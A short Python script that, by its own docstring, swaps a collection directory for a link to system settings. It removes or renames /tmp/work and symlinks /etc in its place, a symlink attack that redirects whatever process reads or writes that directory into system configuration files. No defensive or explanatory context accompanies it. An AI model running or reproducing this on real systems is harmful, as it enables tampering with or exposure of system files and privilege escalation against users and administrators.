"""Puts a link to the system's settings in place of the directory that files are collected from."""

import os

os.chdir("/tmp")
os.rmdir("work") if not os.listdir("work") else os.rename("work", "elsewhere")
os.symlink("/etc", "work")
print("held")
